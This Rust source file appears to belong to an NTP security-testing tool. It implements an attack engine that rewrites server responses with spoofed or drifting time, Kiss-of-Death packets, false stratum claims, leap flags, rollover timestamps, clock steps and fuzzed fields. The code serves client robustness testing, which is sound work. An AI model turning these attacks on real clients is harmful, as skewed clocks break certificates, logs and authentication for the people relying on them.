//! The attack engine: mutates outgoing NTP responses to simulate
//! real-world attacks on time-dependent clients.
//!
//! Exactly one attack is active at a time. [`AttackEngine::process`] is
//! called once per response packet, after normal response construction and
//! before serialization; mutations are applied in place. Stateful attacks
//! (drift, interval-gated KoD and clock step) keep their state behind a
//! single mutex held across the whole mutation, which is CPU-only and
//! bounded.

use chrono::{DateTime, TimeZone, Utc};
use log::debug;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::collections::HashMap;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex, RwLock};
use std::time::{Duration, Instant as StdInstant};

use timehammer_proto::protocol::{
    KissCode, LeapIndicator, Mode, Packet, ReferenceIdentifier, ShortFormat, Stratum,
    TimestampFormat, Version,
};
use timehammer_proto::unix_time;

use crate::config::{AttackPreset, Config, SecurityConfig};
use crate::error::ConfigError;
use crate::logger::EventLog;

/// The eight attack kinds, keyed by their configuration tags.
#[derive(Clone, Copy, Debug, Eq, Hash, PartialEq)]
pub enum AttackKind {
    /// Send clients a controlled fake time.
    TimeSpoofing,
    /// Slowly drift time forward or backward.
    TimeDrift,
    /// Send Kiss-of-Death packets.
    KissOfDeath,
    /// Lie about the stratum level.
    StratumAttack,
    /// Inject leap indicator flags.
    LeapSecond,
    /// Send timestamps at rollover boundaries.
    Rollover,
    /// Sudden large time jumps.
    ClockStep,
    /// Randomly mutate packet fields.
    Fuzzing,
}

impl AttackKind {
    /// Parse a configuration tag. Unknown tags are a configuration error.
    pub fn from_tag(tag: &str) -> Option<AttackKind> {
        match tag {
            "time_spoofing" => Some(AttackKind::TimeSpoofing),
            "time_drift" => Some(AttackKind::TimeDrift),
            "kiss_of_death" => Some(AttackKind::KissOfDeath),
            "stratum_attack" => Some(AttackKind::StratumAttack),
            "leap_second" => Some(AttackKind::LeapSecond),
            "rollover" => Some(AttackKind::Rollover),
            "clock_step" => Some(AttackKind::ClockStep),
            "fuzzing" => Some(AttackKind::Fuzzing),
            _ => None,
        }
    }

    /// The configuration tag for this kind.
    pub fn tag(&self) -> &'static str {
        match self {
            AttackKind::TimeSpoofing => "time_spoofing",
            AttackKind::TimeDrift => "time_drift",
            AttackKind::KissOfDeath => "kiss_of_death",
            AttackKind::StratumAttack => "stratum_attack",
            AttackKind::LeapSecond => "leap_second",
            AttackKind::Rollover => "rollover",
            AttackKind::ClockStep => "clock_step",
            AttackKind::Fuzzing => "fuzzing",
        }
    }
}

/// Catalog entry describing an attack for UIs and documentation.
#[derive(Clone, Debug)]
pub struct AttackInfo {
    /// The attack kind.
    pub kind: AttackKind,
    /// Display name.
    pub name: &'static str,
    /// What the attack does and what it tests.
    pub description: &'static str,
    /// Related CVEs, if any.
    pub cve: Option<&'static str>,
    /// Informal severity rating.
    pub severity: &'static str,
}

/// Information about all available attacks.
pub fn available_attacks() -> Vec<AttackInfo> {
    vec![
        AttackInfo {
            kind: AttackKind::TimeSpoofing,
            name: "Time Spoofing",
            description: "Send clients a controlled fake time (future/past) to test how devices handle unexpected time values",
            cve: None,
            severity: "Medium",
        },
        AttackInfo {
            kind: AttackKind::TimeDrift,
            name: "Gradual Time Drift",
            description: "Slowly drift time forward or backward to evade detection by drift monitors",
            cve: None,
            severity: "Low",
        },
        AttackInfo {
            kind: AttackKind::KissOfDeath,
            name: "Kiss-of-Death (KoD)",
            description: "Send KoD packets with DENY/RATE codes to disable client synchronization",
            cve: Some("CVE-2015-7704, CVE-2015-7705"),
            severity: "High",
        },
        AttackInfo {
            kind: AttackKind::StratumAttack,
            name: "Stratum Manipulation",
            description: "Lie about stratum level (claim stratum 1) to become the preferred time source",
            cve: None,
            severity: "Medium",
        },
        AttackInfo {
            kind: AttackKind::LeapSecond,
            name: "Leap Second Injection",
            description: "Inject leap indicator flags to trigger leap second handling bugs",
            cve: None,
            severity: "Medium",
        },
        AttackInfo {
            kind: AttackKind::Rollover,
            name: "Timestamp Rollover",
            description: "Send timestamps near rollover boundaries (Y2K38, NTP Era 1) to test overflow handling",
            cve: None,
            severity: "High",
        },
        AttackInfo {
            kind: AttackKind::ClockStep,
            name: "Clock Step Attack",
            description: "Sudden large time jumps to test client resilience to step changes",
            cve: None,
            severity: "Medium",
        },
        AttackInfo {
            kind: AttackKind::Fuzzing,
            name: "Client Fuzzing",
            description: "Randomly mutates NTP fields, timestamps, and headers to test client robustness",
            cve: None,
            severity: "Medium",
        },
    ]
}

/// Gradual drift bookkeeping.
#[derive(Clone, Debug)]
pub struct DriftState {
    /// When the drift attack was (re)armed.
    pub start: StdInstant,
    /// Drift currently applied, in seconds (signed).
    pub current_drift_secs: f64,
    /// Last time the drift was recomputed.
    pub last_update: StdInstant,
}

impl DriftState {
    fn new() -> DriftState {
        let now = StdInstant::now();
        DriftState {
            start: now,
            current_drift_secs: 0.0,
            last_update: now,
        }
    }
}

struct AttackState {
    drift: DriftState,
    request_counts: HashMap<SocketAddr, u64>,
    rng: StdRng,
}

impl AttackState {
    fn new(seed: Option<u64>) -> AttackState {
        AttackState {
            drift: DriftState::new(),
            request_counts: HashMap::new(),
            rng: match seed {
                Some(s) => StdRng::seed_from_u64(s),
                None => StdRng::from_entropy(),
            },
        }
    }
}

/// The attack engine. Holds per-engine mutable state (drift, per-endpoint
/// request counts, the fuzzing PRNG) behind one mutex.
pub struct AttackEngine {
    cfg: Arc<RwLock<Config>>,
    log: Arc<EventLog>,
    state: Mutex<AttackState>,
}

impl AttackEngine {
    /// Create an attack engine over the shared configuration.
    pub fn new(cfg: Arc<RwLock<Config>>, log: Arc<EventLog>) -> AttackEngine {
        let seed = cfg
            .read()
            .expect("config lock poisoned")
            .security
            .fuzzing
            .seed;
        AttackEngine {
            cfg,
            log,
            state: Mutex::new(AttackState::new(seed)),
        }
    }

    /// Whether security testing mode is enabled.
    pub fn is_enabled(&self) -> bool {
        self.cfg.read().expect("config lock poisoned").security.enabled
    }

    /// The currently active attack, if the tag is set and known.
    pub fn active_attack(&self) -> Option<AttackKind> {
        let cfg = self.cfg.read().expect("config lock poisoned");
        AttackKind::from_tag(&cfg.security.active_attack)
    }

    /// Apply the active attack to a response packet in place.
    ///
    /// Returns the human-readable attack tag when a mutation was applied.
    /// With security mode disabled the packet passes through untouched and
    /// no per-client state is updated. Interval-gated attacks see a request
    /// count that increments exactly once per processed request, but the
    /// order of increments across concurrent requests from one endpoint is
    /// unspecified, so gates are approximate under load.
    pub fn process(
        &self,
        packet: &mut Packet,
        client: SocketAddr,
        real_time: unix_time::Instant,
    ) -> Option<String> {
        let security = {
            let cfg = self.cfg.read().expect("config lock poisoned");
            if !cfg.security.enabled {
                return None;
            }
            cfg.security.clone()
        };

        let mut state = self.state.lock().expect("attack state lock poisoned");

        let count = {
            let c = state.request_counts.entry(client).or_insert(0);
            *c += 1;
            *c
        };

        let attack = AttackKind::from_tag(&security.active_attack)?;
        let tag = match attack {
            AttackKind::TimeSpoofing => self.apply_time_spoofing(&security, packet, real_time),
            AttackKind::TimeDrift => {
                self.apply_time_drift(&security, packet, real_time, &mut state.drift)
            }
            AttackKind::KissOfDeath => self.apply_kiss_of_death(&security, packet, client, count),
            AttackKind::StratumAttack => self.apply_stratum_lie(&security, packet),
            AttackKind::LeapSecond => self.apply_leap_second(&security, packet),
            AttackKind::Rollover => self.apply_rollover(&security, packet),
            AttackKind::ClockStep => self.apply_clock_step(&security, packet, real_time, count),
            AttackKind::Fuzzing => {
                if !security.fuzzing.enabled {
                    None
                } else {
                    let tag = apply_fuzzing(packet, &mut state.rng);
                    self.log.log_attack(AttackKind::Fuzzing.tag(), "all", &tag);
                    Some(tag)
                }
            }
        };
        tag
    }

    fn apply_time_spoofing(
        &self,
        security: &SecurityConfig,
        packet: &mut Packet,
        real_time: unix_time::Instant,
    ) -> Option<String> {
        let cfg = &security.time_spoofing;
        if !cfg.enabled {
            return None;
        }

        let fake_time = parse_rfc3339(&cfg.custom_time)
            .unwrap_or_else(|| real_time.add_secs_f64(cfg.offset_secs as f64));

        spoof_timestamps(packet, fake_time);

        self.log.log_attack(
            AttackKind::TimeSpoofing.tag(),
            "all",
            &format!(
                "Sending fake time: {} (offset: {}s)",
                format_rfc3339(fake_time),
                cfg.offset_secs
            ),
        );
        Some("Time Spoofing".to_string())
    }

    fn apply_time_drift(
        &self,
        security: &SecurityConfig,
        packet: &mut Packet,
        real_time: unix_time::Instant,
        drift: &mut DriftState,
    ) -> Option<String> {
        let cfg = &security.time_drift;
        if !cfg.enabled {
            return None;
        }

        let elapsed = drift.start.elapsed().as_secs_f64();
        let mut amount = (elapsed * cfg.drift_per_sec).min(cfg.max_drift);
        if cfg.direction == "backward" {
            amount = -amount;
        }
        drift.current_drift_secs = amount;
        drift.last_update = StdInstant::now();

        spoof_timestamps(packet, real_time.add_secs_f64(amount));

        self.log.log_attack(
            AttackKind::TimeDrift.tag(),
            "all",
            &format!("Drifting time {} by {:.3}s", cfg.direction, amount),
        );
        Some("Time Drift".to_string())
    }

    fn apply_kiss_of_death(
        &self,
        security: &SecurityConfig,
        packet: &mut Packet,
        client: SocketAddr,
        count: u64,
    ) -> Option<String> {
        let cfg = &security.kiss_of_death;
        if !cfg.enabled {
            return None;
        }
        // With interval N, only every Nth request is hit; count starts at
        // 1, so the first request never triggers when N > 1.
        if cfg.interval > 0 && count % cfg.interval != 0 {
            return None;
        }

        let code = KissCode::new(&cfg.code).unwrap_or(KissCode::DENY);
        packet.leap_indicator = LeapIndicator::Unknown;
        packet.set_kiss_code(code);

        self.log.log_attack(
            AttackKind::KissOfDeath.tag(),
            &client.to_string(),
            &format!("Sending KoD packet with code: {}", code),
        );
        Some(format!("Kiss-of-Death ({})", code))
    }

    fn apply_stratum_lie(&self, security: &SecurityConfig, packet: &mut Packet) -> Option<String> {
        let cfg = &security.stratum_attack;
        if !cfg.enabled {
            return None;
        }

        let fake = cfg.fake_stratum.min(15);
        packet.stratum = Stratum(fake);
        if fake == 1 {
            packet.reference_id = ReferenceIdentifier::SourceTag(*b"GPS\0");
        }

        self.log.log_attack(
            AttackKind::StratumAttack.tag(),
            "all",
            &format!("Claiming stratum {} to appear more authoritative", fake),
        );
        Some(format!("Stratum Lie ({})", fake))
    }

    fn apply_leap_second(&self, security: &SecurityConfig, packet: &mut Packet) -> Option<String> {
        let cfg = &security.leap_second;
        if !cfg.enabled {
            return None;
        }

        let li = LeapIndicator::try_from(cfg.leap_indicator.min(3)).unwrap_or(LeapIndicator::Unknown);
        packet.leap_indicator = li;

        let desc = match li {
            LeapIndicator::AddOne => "+1 second",
            LeapIndicator::SubOne => "-1 second",
            _ => "alarm/unsynchronized",
        };
        self.log.log_attack(
            AttackKind::LeapSecond.tag(),
            "all",
            &format!("Injecting leap indicator: {} ({})", li as u8, desc),
        );
        Some(format!("Leap Second ({})", desc))
    }

    fn apply_rollover(&self, security: &SecurityConfig, packet: &mut Packet) -> Option<String> {
        let cfg = &security.rollover;
        if !cfg.enabled {
            return None;
        }

        let (rollover_time, description) = match cfg.mode.as_str() {
            "ntp_era" => (
                // NTP era 1 begins here: the 32-bit seconds field wraps.
                Utc.with_ymd_and_hms(2036, 2, 7, 6, 28, 16).unwrap(),
                "NTP Era 1 rollover".to_string(),
            ),
            "custom" => match Utc.with_ymd_and_hms(cfg.target_year, 1, 1, 0, 0, 0).single() {
                Some(t) => (t, format!("Custom year {}", cfg.target_year)),
                None => (
                    Utc.with_ymd_and_hms(2038, 1, 19, 3, 14, 7).unwrap(),
                    "Y2K38".to_string(),
                ),
            },
            // Unix 32-bit signed overflow.
            _ => (
                Utc.with_ymd_and_hms(2038, 1, 19, 3, 14, 7).unwrap(),
                "Y2K38 (Unix 32-bit overflow)".to_string(),
            ),
        };

        let fake_time = datetime_to_instant(rollover_time);
        spoof_timestamps(packet, fake_time);

        self.log.log_attack(
            AttackKind::Rollover.tag(),
            "all",
            &format!(
                "Sending rollover timestamp: {} ({})",
                rollover_time.to_rfc3339(),
                description
            ),
        );
        Some(format!("Rollover ({})", description))
    }

    fn apply_clock_step(
        &self,
        security: &SecurityConfig,
        packet: &mut Packet,
        real_time: unix_time::Instant,
        count: u64,
    ) -> Option<String> {
        let cfg = &security.clock_step;
        if !cfg.enabled {
            return None;
        }
        if cfg.interval > 0 && count % cfg.interval != 0 {
            return None;
        }

        spoof_timestamps(packet, real_time.add_secs_f64(cfg.step_secs as f64));

        self.log.log_attack(
            AttackKind::ClockStep.tag(),
            "all",
            &format!("Applying clock step: {}s (request #{})", cfg.step_secs, count),
        );
        Some(format!("Clock Step ({:+}s)", cfg.step_secs))
    }

    /// Arm an attack from a preset: validates the tag, coerces the dynamic
    /// parameter map into the typed per-attack record, enables security
    /// mode and the attack.
    pub fn apply_preset(&self, preset: &AttackPreset) -> Result<(), ConfigError> {
        let kind = AttackKind::from_tag(&preset.attack)
            .ok_or_else(|| ConfigError::UnknownAttack(preset.attack.clone()))?;

        let mut cfg = self.cfg.write().expect("config lock poisoned");
        let security = &mut cfg.security;
        let p = &preset.config;

        match kind {
            AttackKind::TimeSpoofing => {
                security.time_spoofing.enabled = true;
                if let Some(offset) = get_i64(p, "offset_secs") {
                    security.time_spoofing.offset_secs = offset;
                }
                if let Some(custom) = get_str(p, "custom_time") {
                    security.time_spoofing.custom_time = custom;
                }
            }
            AttackKind::TimeDrift => {
                security.time_drift.enabled = true;
                if let Some(per_sec) = get_f64(p, "drift_per_sec") {
                    security.time_drift.drift_per_sec = per_sec;
                }
                if let Some(max) = get_f64(p, "max_drift") {
                    security.time_drift.max_drift = max;
                }
                if let Some(dir) = get_str(p, "direction") {
                    security.time_drift.direction = dir;
                }
                let mut state = self.state.lock().expect("attack state lock poisoned");
                state.drift = DriftState::new();
            }
            AttackKind::KissOfDeath => {
                security.kiss_of_death.enabled = true;
                if let Some(code) = get_str(p, "code") {
                    KissCode::new(&code)
                        .map_err(|_| ConfigError::InvalidKissCode(code.clone()))?;
                    security.kiss_of_death.code = code;
                }
                if let Some(interval) = get_i64(p, "interval") {
                    security.kiss_of_death.interval = interval.max(0) as u64;
                }
            }
            AttackKind::StratumAttack => {
                security.stratum_attack.enabled = true;
                if let Some(stratum) = get_i64(p, "fake_stratum") {
                    security.stratum_attack.fake_stratum = stratum.clamp(0, 15) as u8;
                }
            }
            AttackKind::LeapSecond => {
                security.leap_second.enabled = true;
                if let Some(li) = get_i64(p, "leap_indicator") {
                    security.leap_second.leap_indicator = li.clamp(0, 3) as u8;
                }
            }
            AttackKind::Rollover => {
                security.rollover.enabled = true;
                if let Some(year) = get_i64(p, "target_year") {
                    security.rollover.target_year = year as i32;
                }
                if let Some(mode) = get_str(p, "mode") {
                    security.rollover.mode = mode;
                }
            }
            AttackKind::ClockStep => {
                security.clock_step.enabled = true;
                if let Some(step) = get_i64(p, "step_secs") {
                    security.clock_step.step_secs = step;
                }
                if let Some(interval) = get_i64(p, "interval") {
                    security.clock_step.interval = interval.max(0) as u64;
                }
            }
            AttackKind::Fuzzing => {
                security.fuzzing.enabled = true;
                if let Some(mode) = get_str(p, "mode") {
                    security.fuzzing.mode = mode;
                }
                if let Some(seed) = get_i64(p, "seed") {
                    security.fuzzing.seed = Some(seed as u64);
                    let mut state = self.state.lock().expect("attack state lock poisoned");
                    state.rng = StdRng::seed_from_u64(seed as u64);
                }
            }
        }

        security.enabled = true;
        security.active_attack = kind.tag().to_string();
        debug!("armed attack preset '{}' ({})", preset.name, kind.tag());
        Ok(())
    }

    /// Disable security mode, clear the active attack, and switch every
    /// per-attack flag off.
    pub fn disable_all(&self) {
        let mut cfg = self.cfg.write().expect("config lock poisoned");
        let security = &mut cfg.security;
        security.enabled = false;
        security.active_attack = String::new();
        security.time_spoofing.enabled = false;
        security.time_drift.enabled = false;
        security.kiss_of_death.enabled = false;
        security.stratum_attack.enabled = false;
        security.leap_second.enabled = false;
        security.rollover.enabled = false;
        security.clock_step.enabled = false;
        security.fuzzing.enabled = false;
    }

    /// Reset the drift bookkeeping (drift restarts from zero).
    pub fn reset_drift(&self) {
        let mut state = self.state.lock().expect("attack state lock poisoned");
        state.drift = DriftState::new();
    }

    /// Reset per-client request counters (interval gates restart).
    pub fn reset_request_counts(&self) {
        let mut state = self.state.lock().expect("attack state lock poisoned");
        state.request_counts.clear();
    }

    /// Current drift in seconds and time elapsed since the drift was armed.
    pub fn drift_status(&self) -> (f64, Duration) {
        let state = self.state.lock().expect("attack state lock poisoned");
        (state.drift.current_drift_secs, state.drift.start.elapsed())
    }
}

/// Set receive and transmit to `fake_time` and reference to one second
/// earlier, the shape every time-warping attack shares.
fn spoof_timestamps(packet: &mut Packet, fake_time: unix_time::Instant) {
    let ts: TimestampFormat = fake_time.into();
    packet.receive_timestamp = ts;
    packet.transmit_timestamp = ts;
    packet.reference_timestamp = fake_time.add_secs_f64(-1.0).into();
}

/// One uniformly-chosen field mutation out of ten.
fn apply_fuzzing(packet: &mut Packet, rng: &mut StdRng) -> String {
    match rng.gen_range(0..10u8) {
        0 => {
            let v = rng.gen_range(0..8u8);
            packet.version = Version::from_raw(v);
            format!("Fuzz: Version {}", v)
        }
        1 => {
            let mut m = rng.gen_range(0..8u8);
            if m == 4 {
                m = 0; // never a well-formed server reply
            }
            packet.mode = Mode::try_from(m).unwrap_or(Mode::Reserved);
            format!("Fuzz: Mode {}", m)
        }
        2 => {
            let mut s = rng.gen_range(0..20u8);
            if s == 0 {
                s = 16;
            } else if s > 16 {
                s = 0;
            }
            packet.stratum = Stratum(s);
            format!("Fuzz: Stratum {}", s)
        }
        3 => {
            packet.leap_indicator = LeapIndicator::Unknown;
            "Fuzz: LI Alarm".to_string()
        }
        4 => {
            packet.reference_timestamp = TimestampFormat::default();
            packet.receive_timestamp = TimestampFormat::default();
            packet.transmit_timestamp = TimestampFormat::default();
            "Fuzz: Zero Timestamps".to_string()
        }
        5 => {
            let max = TimestampFormat {
                seconds: u32::MAX,
                fraction: u32::MAX,
            };
            packet.receive_timestamp = max;
            packet.transmit_timestamp = max;
            "Fuzz: Max Timestamps".to_string()
        }
        6 => {
            let large = ShortFormat {
                seconds: 0xFFFF,
                fraction: 0,
            };
            packet.root_delay = large;
            packet.root_dispersion = large;
            "Fuzz: Large Root Delay".to_string()
        }
        7 => {
            packet.reference_id = ReferenceIdentifier::Unknown([0x41; 4]);
            "Fuzz: RefID AAAA".to_string()
        }
        8 => {
            packet.origin_timestamp.seconds = packet.origin_timestamp.seconds.wrapping_add(1);
            "Fuzz: Origin Mismatch".to_string()
        }
        _ => {
            packet.poll = -100;
            packet.precision = 100;
            "Fuzz: Invalid Poll/Prec".to_string()
        }
    }
}

fn parse_rfc3339(s: &str) -> Option<unix_time::Instant> {
    if s.is_empty() {
        return None;
    }
    let dt = DateTime::parse_from_rfc3339(s).ok()?;
    Some(datetime_to_instant(dt.with_timezone(&Utc)))
}

fn datetime_to_instant(dt: DateTime<Utc>) -> unix_time::Instant {
    unix_time::Instant::new(dt.timestamp(), dt.timestamp_subsec_nanos() as i32)
}

fn format_rfc3339(t: unix_time::Instant) -> String {
    match Utc.timestamp_opt(t.secs(), t.subsec_nanos().unsigned_abs()).single() {
        Some(dt) => dt.to_rfc3339(),
        None => format!("{}s", t.secs()),
    }
}

// Preset parameter coercion: on-disk numbers may be integers or floats.

fn get_i64(map: &std::collections::BTreeMap<String, serde_yaml::Value>, key: &str) -> Option<i64> {
    match map.get(key)? {
        serde_yaml::Value::Number(n) => n.as_i64().or_else(|| n.as_f64().map(|f| f as i64)),
        _ => None,
    }
}

fn get_f64(map: &std::collections::BTreeMap<String, serde_yaml::Value>, key: &str) -> Option<f64> {
    match map.get(key)? {
        serde_yaml::Value::Number(n) => n.as_f64(),
        _ => None,
    }
}

fn get_str(
    map: &std::collections::BTreeMap<String, serde_yaml::Value>,
    key: &str,
) -> Option<String> {
    map.get(key)?.as_str().map(str::to_string)
}
